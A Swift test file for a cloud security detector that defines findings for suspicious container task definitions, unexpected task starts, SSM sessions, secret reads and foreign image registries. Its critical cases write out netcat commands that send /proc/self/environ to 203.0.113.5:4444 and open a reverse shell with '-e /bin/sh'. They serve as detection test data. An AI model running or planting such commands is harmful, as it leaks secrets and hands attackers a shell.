import Incident

extension FindingCase {
  /// What is started with the runner's rights.
  static let starts: [FindingCase] = [
    FindingCase("E02", .critical) {
      $0.command("sh", "-c", "nc 203.0.113.5 4444 < /proc/self/environ")
    } not: {
      $0.command("sh", "-c", "rsync -e ssh a b; sync 1; func nc2")
    },
    FindingCase("E02", .critical) {
      $0.command("nc", "203.0.113.5", "4444", "-e", "/bin/sh")
    } not: {
      $0.command("deploy", "--state", "nc")
      $0.command("rsync", "-e", "ssh")
    },
    FindingCase("E02", .critical) {
      $0.command("/bin/busybox", "nc", "203.0.113.5", "4444")
    } not: {
      $0.define(
        by: StepStory.manager, at: "11:00:00", container: StepStory.variable("STATE", "nc"))
    },
    FindingCase("E02", .critical) {
      $0.command("sh", "-c", "sh -c 'ncat 203.0.113.5 1'")
    } not: {
      $0.command("sh", "-c", "vnc 203.0.113.5; nc-report 1")
    },
    FindingCase("E11", .high) {
      $0.define(by: StepStory.manager, at: "11:00:00", more: #","cpu":"16 vCPU""#)
    } not: {
      $0.define(by: StepStory.manager, at: "11:00:00", more: #","cpu":"4 vCPU""#)
      $0.define(by: StepStory.manager, at: "11:01:00", more: #","cpu":".5 vCPU""#)
    },
    FindingCase("E13", .high) {
      $0.start(by: .user("eve"), at: "11:00:00", definition: "humanitec_prod-runner")
    } not: {
      $0.start(by: StepStory.manager, at: "11:00:00", definition: "humanitec_prod-runner")
      $0.start(by: .user("eve"), at: "11:00:00", cluster: "web", definition: "shop")
    },
    FindingCase("E13", .high) {
      $0.start(
        by: .user("eve"), at: "11:00:00", cluster: "default", definition: "humanitec_prod-runner:9")
    } not: {
      $0.start(
        by: .user("eve"), at: "11:00:00", cluster: "web", definition: "humanitec_prod-runner-2:3")
    },
    FindingCase("O03", .high) {
      $0.call("ssm", "StartSession", StepStory.target)
    } not: {
      // Their ids put them in the other order within the second.
      $0.call("ssm", "StartSession", StepStory.target)
      $0.shell(at: "11:00:00")
    },
    FindingCase("O02", .high) {
      $0.define(by: StepStory.manager, at: "10:00:00", container: StepStory.secret("prod/db-admin"))
      $0.call("secretsmanager", "GetSecretValue", #"{"secretId":"prod/db"}"#, by: StepStory.worker)
    } not: {
      $0.define(by: StepStory.manager, at: "10:00:00", container: StepStory.secret("prod/db"))
      for name in ["", "-AbCdEf"] {
        $0.call(
          "secretsmanager", "GetSecretValue",
          #"{"secretId":"arn:aws:secretsmanager:eu-central-1:111122223333:secret:prod/db\#(name)"}"#,
          by: StepStory.worker)
      }
    },
    FindingCase("O02", .high) {
      $0.parameters("/prod/db")
      $0.call("ssm", "GetParameters", #"{"names":["/prod/db","/prod/d"]}"#, by: StepStory.worker)
    } not: {
      $0.parameters("/prod/db", "arn:aws:ssm:eu-central-1:111122223333:parameter/token")
      $0.call("ssm", "GetParameters", #"{"names":["/prod/db:3","token"]}"#, by: StepStory.worker)
    },
    FindingCase("O02", .high) {
      $0.define(by: StepStory.manager, at: "10:00:00", container: StepStory.secret("prod/db"))
      $0.call(
        "secretsmanager", "GetSecretValue",
        #"{"secretId":"arn:aws:secretsmanager:us-east-1:111122223333:secret:prod/db-AbCdEf"}"#,
        by: StepStory.worker)
    } not: {
      $0.define(
        by: StepStory.manager, at: "10:00:00",
        container: StepStory.secret("prod/db").replacing("-AbCdEf", with: "-AbCdEf:password::"))
      $0.call("secretsmanager", "GetSecretValue", #"{"secretId":"prod/db"}"#, by: StepStory.worker)
    },
    FindingCase("E01", .high) {
      $0.define(
        by: StepStory.manager, at: "11:00:00",
        image: "999988887777.dkr.ecr.cn-north-1.amazonaws.com.cn/jobs:v1")
    } not: {
      $0.define(
        by: StepStory.manager, at: "11:00:00",
        image: "\(StepStory.account).dkr.ecr.cn-north-1.amazonaws.com.cn/jobs:v1")
    },
  ]
}

extension StepStory {
  /// RegisterTaskDefinition with parameters of Systems Manager as secrets.
  mutating func parameters(_ names: String...) {
    let list = names.map { #"{"name":"X","valueFrom":"\#($0)"}"# }.joined(separator: ",")
    define(by: Self.manager, at: "10:00:00", container: #","secrets":[\#(list)]"#)
  }

  /// RegisterTaskDefinition with the command of a container.
  mutating func command(_ words: String...) {
    let list = words.map { #""\#($0)""# }.joined(separator: ",")
    define(by: Self.manager, at: "11:00:00", container: #","command":[\#(list)]"#)
  }
}
